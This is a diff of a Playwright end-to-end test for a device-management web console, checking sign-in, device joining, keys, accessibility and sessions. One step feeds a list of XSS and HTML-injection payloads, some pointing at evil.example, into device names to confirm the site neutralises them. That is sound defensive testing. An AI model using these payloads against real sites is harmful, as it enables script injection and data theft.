@@ -1,48 +1,351 @@
+// Drives the console in Chromium; started by browser_test.go with CONSOLE (the
+// site), CONTROL (what devices and the command line would do), WEFT_CHROMIUM
+// and, for screenshots, WEFT_SHOTS. The first failure ends it with status 1.
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { createRequire } from "node:module";
 import { chromium } from "playwright-core";
-const { CONSOLE, CONTROL, SHOTS } = process.env;
-const ctl = async (p, body) => (await fetch(CONTROL + p, { method: "POST", body: body && new URLSearchParams(body) })).text();
-const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync".split(" ") });
-const combos = [[1280, "light"], [390, "light"], [1280, "dark"], [390, "dark"]];
-const ctx = await browser.newContext({ viewport: { width: 1280, height: 860 } });
-const page = await ctx.newPage();
-page.on("console", (m) => console.log("console:", m.type(), m.text()));
-page.on("pageerror", (e) => console.log("pageerror:", e));
-async function shot(name, only) {
-  for (const [w, scheme] of combos) {
-    if (only && !only.includes(scheme + w)) continue;
-    await page.emulateMedia({ colorScheme: scheme });
-    await page.setViewportSize({ width: w, height: w == 390 ? 844 : 860 });
-    await page.waitForTimeout(60);
-    await page.screenshot({ path: `${SHOTS}/${name}-${w}-${scheme}.png`, fullPage: true });
-    const over = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
-    if (over > 0) console.log("OVERFLOW", name, w, over);
-  }
-  await page.setViewportSize({ width: 1280, height: 860 });
+
+const { CONSOLE, CONTROL, WEFT_CHROMIUM, WEFT_SHOTS } = process.env;
+const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+const password = "correct horse battery";
+const wide = { width: 1280, height: 860 };
+const narrow = { width: 390, height: 844 };
+
+const control = async (path, body) => {
+  const res = await fetch(CONTROL + path, { method: "POST", body: typeof body === "string" ? body : body && new URLSearchParams(body) });
+  assert.ok(res.ok, `${path}: ${res.status}`);
+  return res.text();
+};
+
+const browser = await chromium.launch({
+  executablePath: WEFT_CHROMIUM,
+  args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
+});
+
+// Whatever a page complains about is a failure: policy violations, script
+// errors, dialogs (an alert that ran), requests to anywhere else.
+const complaints = [];
+let expected = /^$/;
+async function newPage(options = {}) {
+  const context = await browser.newContext({ viewport: wide, ...options });
+  await context.route("**", (route) => {
+    const url = route.request().url();
+    if (!url.startsWith(CONSOLE)) {
+      complaints.push(`request to ${url}`);
+      return route.abort();
+    }
+    return route.continue();
+  });
+  const page = await context.newPage();
+  page.setDefaultTimeout(10_000);
+  page.on("console", (m) => {
+    if (["error", "warning"].includes(m.type()) && !expected.test(m.text())) complaints.push(`${page.url()}: ${m.type()}: ${m.text()}`);
+  });
+  page.on("pageerror", (e) => complaints.push(`${page.url()}: ${e}`));
+  page.on("dialog", (d) => {
+    complaints.push(`${page.url()}: dialog ${d.message()}`);
+    d.dismiss();
+  });
+  return page;
 }
-const link = await ctl("/link");
-await page.goto(CONSOLE + "/sign-in"); await shot("signin");
-await page.goto(CONSOLE + link); await shot("welcome");
-await page.fill("#password", "correct horse battery"); await page.click("text=Set password");
-await page.waitForSelector(".empty"); await shot("empty");
-await page.click("text=Add a device"); await page.waitForSelector("#note"); await shot("add");
-await page.click("summary"); await shot("add-open");
-await page.fill("#note", "The Pi in the kitchen"); await page.click("text=Create a token");
-await page.waitForSelector(".joined"); await shot("join");
-const token = (await page.textContent(".command code")).split(" ").pop();
-const id = await ctl("/join", { token, name: "kitchen-pi-2" });
-await page.waitForSelector(".arrived"); await shot("joined-wait");
-await ctl("/online", { id, on: "true" });
-await page.waitForSelector(".path"); await shot("joined");
-await page.goto(CONSOLE + "/add/laptop"); await page.click("text=Create a token"); await page.waitForSelector(".joined"); await shot("join-laptop");
-await ctl("/sample");
-await page.goto(CONSOLE + "/devices"); await page.waitForTimeout(300); await shot("devices");
-await page.fill("#q", "sensor zzz"); await page.waitForSelector(".none"); await shot("none", ["light1280", "dark390"]);
-await page.goto(CONSOLE + "/devices"); await page.click("text=kitchen-pi >> nth=0"); await page.waitForSelector("#h-reach");
-await page.click("text=Test the connection"); await page.waitForSelector(".path"); await shot("device");
-await page.click("text=Delete this device"); await page.fill("#typed", "nope"); await shot("delete", ["light390", "dark1280"]);
-await page.goto(CONSOLE + "/keys"); await shot("keys");
-await page.click("details.confirm summary"); await shot("keys-revoke", ["light1280", "light390"]);
-await page.goto(CONSOLE + "/keys/new"); await shot("newkey", ["light1280", "dark390"]);
-await page.goto(CONSOLE + "/account"); await shot("account");
-await page.goto(CONSOLE + "/nothing"); await shot("error", ["light1280", "dark390"]);
+
+// look checks a page at both widths and in both themes: nothing sticks out,
+// text can be read and controls have names (axe), and keeps a picture.
+async function look(page, name) {
+  for (const size of [narrow, wide]) {
+    await page.setViewportSize(size);
+    for (const colorScheme of ["light", "dark"]) {
+      await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
+      const out = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+      assert.ok(out <= 0, `${name} at ${size.width} px: ${out} px stick out`);
+      if (WEFT_SHOTS) await page.screenshot({ path: `${WEFT_SHOTS}/${name}-${size.width}-${colorScheme}.png`, fullPage: true });
+      if ((size === wide) === (colorScheme === "dark")) continue;
+      // axe goes in through the debugger, past the page's policy.
+      await page.evaluate(axe);
+      const { violations } = await page.evaluate(() => axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"] }));
+      const found = violations.map((v) => `${v.id}: ${v.help}: ${v.nodes.map((n) => n.target).join(", ")}`);
+      assert.deepEqual(found, [], `${name} at ${size.width} px, ${colorScheme}`);
+    }
+  }
+  await page.emulateMedia({ colorScheme: "light", reducedMotion: "no-preference" });
+}
+
+async function step(name, f) {
+  const start = Date.now();
+  try {
+    await f();
+    assert.deepEqual(complaints, []);
+  } catch (e) {
+    console.error(`FAIL ${name}`);
+    throw e;
+  }
+  console.log(`ok ${name} (${Date.now() - start} ms)`);
+}
+
+let page;
+let joined;
+
+await step("first sign-in by one-time link", async () => {
+  page = await newPage();
+  expected = /401|422/;
+  await page.goto(CONSOLE + "/");
+  await page.getByRole("heading", { name: "Sign in" }).waitFor();
+  await look(page, "signin");
+  await page.goto(CONSOLE + (await control("/link")));
+  await look(page, "welcome");
+  assert.equal(await page.inputValue("#name"), "owner");
+  await page.fill("#password", "password");
+  await page.evaluate(() => document.querySelector("#password").removeAttribute("minlength"));
+  await page.getByRole("button", { name: "Set password" }).click();
+  await page.getByRole("alert").waitFor();
+  await page.fill("#password", password);
+  await page.getByRole("button", { name: "Show" }).click();
+  assert.equal(await page.getAttribute("#password", "type"), "text");
+  await page.getByRole("button", { name: "Set password" }).click();
+  await page.getByRole("heading", { name: "Add your first device" }).waitFor();
+  await page.locator("#live-state[data-state=on]").waitFor();
+  await look(page, "empty");
+  expected = /^$/;
+});
+
+await step("add a device by keyboard, see it join live, test it", async () => {
+  const tabTo = async (name) => {
+    for (let i = 0; i < 40; i++) {
+      await page.keyboard.press("Tab");
+      const here = await page.evaluate(() => document.activeElement.textContent.trim() || document.activeElement.id);
+      if (here.startsWith(name)) return;
+    }
+    assert.fail(`the keyboard does not reach ${name}`);
+  };
+  await page.setViewportSize(wide);
+  await page.goto(CONSOLE + "/devices");
+  await page.keyboard.press("Tab");
+  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Skip to the content");
+  await page.keyboard.press("Enter");
+  await tabTo("Add a device");
+  await page.keyboard.press("Enter");
+  await page.waitForURL("**/add/device");
+  await look(page, "add");
+  await tabTo("note");
+  await page.keyboard.type("The Pi in the kitchen");
+  await tabTo("Options");
+  await page.keyboard.press("Space");
+  await look(page, "add-options");
+  await page.locator("#note").focus();
+  await page.keyboard.press("Enter");
+  await page.waitForURL("**/join");
+  await page.getByText("Waiting for the device").waitFor();
+  await look(page, "join");
+  const command = await page.locator(".command code").textContent();
+  assert.match(command, /^weft run --token weft1[0-9A-Za-z]+$/);
+  const token = command.split(" ").pop();
+  assert.ok((await page.locator(".qr svg path").getAttribute("d")).length > 1000);
+
+  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+  await page.getByRole("button", { name: "Copy" }).click();
+  await page.getByRole("button", { name: "Copied" }).waitFor();
+  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), command);
+
+  const start = Date.now();
+  joined = await control("/join", { token, name: "kitchen-pi-2" });
+  await page.getByText("has joined").waitFor();
+  assert.ok(Date.now() - start < 2000, "the page took 2 s to notice");
+  await page.getByText("Waiting for its connection").waitFor();
+  assert.equal(await page.locator(".qr").count(), 0, "the code of a used token is still shown");
+  await control("/online", { id: joined, on: "true" });
+  await page.locator(".path").getByText("8.4 ms").waitFor();
+  await look(page, "joined");
+});
+
+await step("add a laptop", async () => {
+  await page.setViewportSize(wide);
+  await page.goto(CONSOLE + "/add/laptop");
+  await page.getByRole("button", { name: "Create a token" }).click();
+  await page.getByText("Waiting for the laptop").waitFor();
+  assert.match(await page.locator(".command code").nth(1).textContent(), /^weft up weft1/);
+  await look(page, "join-laptop");
+  await page.reload(); // the token survives a reload in this session
+  await page.getByText("Waiting for the laptop").waitFor();
+});
+
+await step("devices change under one's eyes, and typing is not disturbed", async () => {
+  await control("/sample");
+  await page.goto(CONSOLE + "/devices");
+  await page.locator("#live-state[data-state=on]").waitFor();
+  const row = page.locator(`#d-${joined}`);
+  await row.locator(".dot.on").waitFor();
+  await control("/online", { id: joined, on: "false" });
+  await row.locator(".dot.off").waitFor();
+  await look(page, "devices");
+  await page.setViewportSize(wide);
+
+  await page.keyboard.press("/");
+  await page.keyboard.type("sens");
+  await page.waitForFunction(() => document.querySelectorAll(".list tbody tr").length === 3);
+  assert.match(page.url(), /q=sens/);
+  await page.evaluate(() => (window.sameInput = document.querySelector("#q")));
+  await control("/online", { id: joined, on: "true" }); // a live update while typing
+  await page.waitForTimeout(300);
+  await page.keyboard.type("or");
+  await page.waitForFunction(() => location.search === "?q=sensor");
+  assert.equal(await page.inputValue("#q"), "sensor");
+  assert.ok(await page.evaluate(() => window.sameInput === document.activeElement), "the search field was replaced");
+  // The live update must follow the search, not the page as it was loaded.
+  await control("/online", { id: joined, on: "false" });
+  await page.waitForTimeout(900);
+  assert.equal(await page.locator(".list tbody tr").count(), 3);
+  await page.keyboard.type(" zzz");
+  await page.getByText("Nothing matches").waitFor();
+  await look(page, "nothing");
+});
+
+await step("device page: rename, test, delete with the name typed", async () => {
+  await page.setViewportSize(wide);
+  await page.goto(CONSOLE + "/devices");
+  await page.getByRole("link", { name: "kitchen-pi", exact: true }).click();
+  await page.getByRole("button", { name: "Test the connection" }).click();
+  await page.locator(".path").getByText("8.4 ms").waitFor();
+  await look(page, "device");
+  await page.setViewportSize(wide);
+  await page.fill("#newname", "larder-pi");
+  await page.getByRole("button", { name: "Rename" }).click();
+  await page.getByRole("heading", { name: "larder-pi" }).waitFor();
+  await page.getByText("Renamed.").waitFor();
+  expected = /422/;
+  await page.fill("#newname", "no spaces here");
+  await page.getByRole("button", { name: "Rename" }).click();
+  await page.getByText("A name has").waitFor();
+  await page.waitForFunction(() => !location.pathname.endsWith("/rename")); // a reload would send the form again
+  expected = /^$/;
+
+  await page.getByText("Delete this device").click();
+  const button = page.getByRole("button", { name: "Delete" });
+  assert.ok(await button.isDisabled());
+  await page.fill("#typed", "kitchen-pi");
+  assert.ok(await button.isDisabled());
+  await page.fill("#typed", "larder-pi");
+  await look(page, "delete");
+  expected = /404/; // the page may hear of it before it is left
+  await button.click();
+  await page.waitForURL("**/devices?done=deleted");
+  expected = /^$/;
+  assert.equal(await page.getByRole("link", { name: "larder-pi" }).count(), 0);
+});
+
+await step("keys", async () => {
+  await page.setViewportSize(wide);
+  await page.goto(CONSOLE + "/keys/new");
+  await look(page, "newkey");
+  await page.fill("#note", "Golden image, batch 7");
+  await page.fill("#tags", "sensor, north-field");
+  await page.getByLabel("Reusable").check();
+  await page.getByRole("button", { name: "Create the key" }).click();
+  await page.getByText("weft run --token-file").waitFor();
+  await look(page, "join-reusable");
+  await page.setViewportSize(wide);
+  await page.goto(CONSOLE + "/keys");
+  await page.getByText("Golden image").waitFor();
+  await page.locator("tr", { hasText: "Golden image" }).getByText("Revoke", { exact: true }).click();
+  await look(page, "keys");
+  await page.keyboard.press("Escape");
+  assert.equal(await page.locator("details.confirm[open]").count(), 0);
+  await page.setViewportSize(wide);
+  await page.locator("tr", { hasText: "Golden image" }).getByText("Revoke", { exact: true }).click();
+  await page.getByRole("button", { name: "Revoke this key" }).click();
+  await page.getByText("Key revoked.").waitFor();
+  await page.getByText("used, expired or revoked").click();
+  await look(page, "keys-past");
+});
+
+await step("account, and a session that ends elsewhere", async () => {
+  await page.setViewportSize(wide);
+  const second = await newPage();
+  await second.goto(CONSOLE + "/sign-in");
+  await second.fill("#name", "owner");
+  await second.fill("#password", password);
+  await second.getByRole("button", { name: "Sign in" }).click();
+  await second.getByRole("heading", { name: "Devices" }).waitFor();
+  await second.locator("#live-state[data-state=on]").waitFor();
+  await page.goto(CONSOLE + "/account");
+  await look(page, "account");
+  expected = /401/;
+  await page.getByRole("button", { name: "Sign out everywhere else" }).click();
+  await page.getByText("All other sessions have ended").waitFor();
+  // The other page notices by itself.
+  await second.getByRole("heading", { name: "Sign in" }).waitFor();
+  expected = /^$/;
+  await second.context().close();
+});
+
+await step("hostile names do nothing", async () => {
+  const payloads = [
+    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)',
+    "javascript:alert(1)", '" hx-get="//evil.example" hx-trigger="load', '<div hx-get="/devices" hx-trigger="load[alert(1)]">', '<hx-partial hx-target="body">gone</hx-partial>',
+    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>body{display:none}</style>", "<base href=//evil.example/>", "</title><script>alert(1)</script>", "<form action=//evil.example>",
+    "\u202egnp.exe", "\u2066x\u2069y", "z" + "\u0335".repeat(200), "w".repeat(4000), "line\nbreak", "${alert(1)}{{alert(1)}}",
+  ];
+  await control("/hostile", JSON.stringify(payloads));
+  for (const at of ["/devices?q=100.66", "/keys", ...payloads.map((_, i) => "/devices/" + (0xbad000 + i).toString(16).padStart(32, "0"))]) {
+    await page.goto(CONSOLE + at);
+    await page.locator("#live-state[data-state=on]").waitFor();
+    for (const size of [narrow, wide]) {
+      await page.setViewportSize(size);
+      const out = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+      assert.ok(out <= 0, `${at} at ${size.width} px: ${out} px stick out`);
+    }
+    assert.ok(await page.locator("main h1").isVisible());
+    assert.equal(await page.locator("iframe, main script, main style, base, main img").count(), 0, at);
+    assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(await page.textContent("body")), at);
+  }
+  await page.goto(CONSOLE + "/devices?q=100.66");
+  await look(page, "hostile");
+});
+
+await step("5,000 devices", async () => {
+  await control("/many");
+  await page.setViewportSize(wide);
+  const start = Date.now();
+  await page.goto(CONSOLE + "/devices?q=unit");
+  await page.getByText("1–50 of 5,000 devices").waitFor();
+  assert.ok(Date.now() - start < 3000, "the list took 3 s");
+  await look(page, "many");
+  await page.getByRole("link", { name: "Next" }).click();
+  await page.getByText("51–100 of 5,000 devices").waitFor();
+});
+
+await step("reading works without JavaScript", async () => {
+  const cookies = await page.context().cookies();
+  const plain = await newPage({ javaScriptEnabled: false });
+  await plain.context().addCookies(cookies);
+  for (const [at, heading] of [["/devices", "Devices"], ["/devices?q=nas", "Devices"], ["/keys", "Keys"], ["/account", "Account"], ["/add/device", "Add a device"], ["/keys/new", "New key"]]) {
+    await plain.goto(CONSOLE + at);
+    assert.ok(await plain.getByRole("heading", { name: heading, exact: true }).isVisible(), at);
+  }
+  await plain.goto(CONSOLE + "/devices?q=nas");
+  await plain.getByRole("link", { name: "nas" }).click();
+  await plain.getByRole("heading", { name: "nas" }).waitFor();
+  assert.equal(await plain.getByRole("button", { name: "Copy" }).count(), 0, "a button that cannot work is shown");
+  await plain.getByRole("button", { name: "Test the connection" }).click();
+  await plain.getByText("8.4 ms").waitFor();
+  await plain.context().close();
+});
+
+await step("an ended session and a missing page", async () => {
+  await page.setViewportSize(wide);
+  expected = /40[14]/;
+  await page.goto(CONSOLE + "/no/such/page");
+  await page.getByRole("heading", { name: "Nothing here" }).waitFor();
+  await look(page, "error");
+  await page.goto(CONSOLE + "/keys");
+  await page.locator("#live-state[data-state=on]").waitFor();
+  await control("/drop-sessions");
+  await page.getByRole("heading", { name: "Sign in" }).waitFor();
+  await page.fill("#name", "owner");
+  await page.fill("#password", password);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.waitForURL("**/keys"); // back where it was
+  expected = /^$/;
+});
+
 await browser.close();
